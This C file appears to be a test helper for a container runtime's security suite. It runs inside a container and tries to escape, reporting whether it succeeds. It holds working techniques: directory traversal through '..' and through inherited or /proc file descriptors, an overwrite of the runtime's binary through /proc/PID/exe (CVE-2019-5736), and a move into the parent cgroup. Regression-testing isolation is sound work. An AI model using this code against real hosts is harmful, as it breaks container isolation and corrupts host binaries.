/* Test helper, run inside a container (linked statically): it attacks the
 * runtime the way a hostile container would, and says what it reached.
 *
 *   escape cwd MARKER OUT        from the working directory, climb ".." and
 *                                try to read the host's MARKER and create OUT
 *   escape watch SECS MARKER OUT EXE-OUT [STOP]
 *                                for SECS seconds (or until the file STOP
 *                                is there: its caller's execs are done,
 *                                however slow the host), watch /proc for new
 *                                processes; through each one's fds try to
 *                                read MARKER and create OUT; hold each one's
 *                                /proc/PID/exe and, once it has exited, try
 *                                to append to it (CVE-2019-5736), writing
 *                                EXE-OUT's name into the binary; says
 *                                "tried the binary of pid N: why not" for
 *                                each one (busy ones are tried to the end)
 *
 *   escape ids                   print the real and effective uid (run it
 *                                setuid to see whether that took effect)
 *   escape fds                   print the fds it was started with, one
 *                                line "fds 0 1 2 ..."; through each one that
 *                                is a directory, try to move itself to the
 *                                parent cgroup (its cgroup.procs)
 *
 * MARKER and OUT are absolute paths on the host. Prints "ESCAPED ..." for
 * each success, and "watched N processes" at the end of a watch. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../../"

/* From a directory fd somewhere on the host, reach the host's root. */
static int reach(int dirfd, const char *marker, const char *out, const char *how)
{
	char p[4096];
	snprintf(p, sizeof(p), UP "%s", marker + 1);
	int fd = openat(dirfd, p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	char buf[64] = "";
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	snprintf(p, sizeof(p), UP "%s", out + 1);
	int w = openat(dirfd, p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (w >= 0) {
		dprintf(w, "written from the container via %s\n", how);
		close(w);
	}
	printf("ESCAPED via %s: read [%s]\n", how, buf);
	fflush(stdout);
	return 1;
}

static int attack_cwd(const char *marker, const char *out)
{
	int dot = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int r = dot >= 0 && reach(dot, marker, out, "the working directory");
	if (!r)
		printf("contained\n");
	return 0;
}

#define MAX_EXE 256
struct held { int fd; pid_t pid; } held[MAX_EXE];
static int n_held;
static char seen[1 << 22];

/* Returns whether pid exists. The fds are tried by number, not listed:
 * the runtime's window before execve is short. */
static int try_process(pid_t pid, const char *marker, const char *out)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
	/* stop it first, so that a runtime process cannot exec away meanwhile */
	int stopped = kill(pid, SIGSTOP) == 0;
	int e = open(p, O_PATH | O_CLOEXEC);
	if (e >= 0 && n_held < MAX_EXE)
		held[n_held++] = (struct held){ e, pid };
	else if (e >= 0)
		close(e);
	for (int n = 3; n < 16; n++) {
		char fp[64], how[96];
		snprintf(fp, sizeof(fp), "/proc/%d/fd/%d", (int)pid, n);
		int fd = open(fp, O_PATH | O_CLOEXEC);
		struct stat st;
		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			snprintf(how, sizeof(how), "/proc/PID/fd/%d of a new process", n);
			reach(fd, marker, out, how);
		}
		if (fd >= 0)
			close(fd);
	}
	if (stopped)
		kill(pid, SIGCONT);
	snprintf(p, sizeof(p), "/proc/%d", (int)pid);
	return e >= 0 || access(p, F_OK) == 0;
}

/* Once the runtime process has gone, its binary is no longer busy: until
 * the last try, a busy one is tried again later. */
static void try_overwrite(const char *exe_out, int last)
{
	for (int i = 0; i < n_held; i++) {
		if (held[i].fd < 0)
			continue;
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i].fd);
		int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY && !last)
			continue;
		if (w >= 0) {
			if (write(w, exe_out, strlen(exe_out)) > 0)
				printf("ESCAPED via /proc/PID/exe: appended to the binary of pid %d\n", (int)held[i].pid);
			else
				printf("tried the binary of pid %d: write: %s\n", (int)held[i].pid, strerror(errno));
			close(w);
		} else {
			printf("tried the binary of pid %d: open: %s\n", (int)held[i].pid, strerror(errno));
		}
		fflush(stdout);
		close(held[i].fd);
		held[i].fd = -1;
	}
}

/* Pids come in order in a pid namespace: spin on the next few, and rescan
 * /proc now and then for any that came out of order. */
static int watch(int secs, const char *marker, const char *out, const char *exe_out, const char *stop)
{
	time_t end = time(NULL) + secs;
	pid_t self = getpid(), next = 1;
	int n = 0;
	for (unsigned long round = 0; time(NULL) < end; round++) {
		for (pid_t pid = next; pid < next + 4; pid++) {
			if (pid == self || pid >= (pid_t)sizeof(seen) || seen[pid])
				continue;
			if (try_process(pid, marker, out)) {
				seen[pid] = 1;
				n++;
				if (pid >= next)
					next = pid + 1;
			}
		}
		if (round % 4096)
			continue;
		if (stop && access(stop, F_OK) == 0)
			end = 0; /* this rescan is the last */
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *de;
		while ((de = readdir(d))) {
			long pid = strtol(de->d_name, NULL, 10);
			if (pid <= 0 || pid == self || pid >= (long)sizeof(seen) || seen[pid])
				continue;
			seen[pid] = 1;
			n++;
			try_process((pid_t)pid, marker, out);
			if (pid >= next)
				next = (pid_t)pid + 1;
		}
		closedir(d);
		try_overwrite(exe_out, 0);
	}
	try_overwrite(exe_out, 1);
	printf("watched %d processes\n", n);
	return 0;
}

/* What the runtime handed us: nothing is opened before the fds are read,
 * so the listing is exactly what execve brought. */
static int list_fds(void)
{
	char line[4096] = "fds";
	size_t len = 3;
	int dirs[64], nd = 0;
	for (int fd = 0; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) < 0)
			continue;
		len += (size_t)snprintf(line + len, sizeof(line) - len, " %d", fd);
		if (S_ISDIR(st.st_mode) && nd < 64)
			dirs[nd++] = fd;
	}
	printf("%s\n", line);
	for (int i = 0; i < nd; i++) {
		int procs = openat(dirs[i], "../cgroup.procs", O_WRONLY | O_CLOEXEC);
		if (procs >= 0 && dprintf(procs, "%d\n", (int)getpid()) > 0)
			printf("ESCAPED through fd %d: moved to the parent cgroup\n", dirs[i]);
		else
			printf("directory fd %d\n", dirs[i]);
	}
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "ids")) {
		printf("uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return list_fds();
	if (argc == 4 && !strcmp(argv[1], "cwd"))
		return attack_cwd(argv[2], argv[3]);
	if ((argc == 6 || argc == 7) && !strcmp(argv[1], "watch"))
		return watch(atoi(argv[2]), argv[3], argv[4], argv[5], argc == 7 ? argv[6] : NULL);
	fprintf(stderr, "usage: escape cwd MARKER OUT | escape watch SECS MARKER OUT EXE-OUT [STOP] | escape ids | escape fds\n");
	return 2;
}
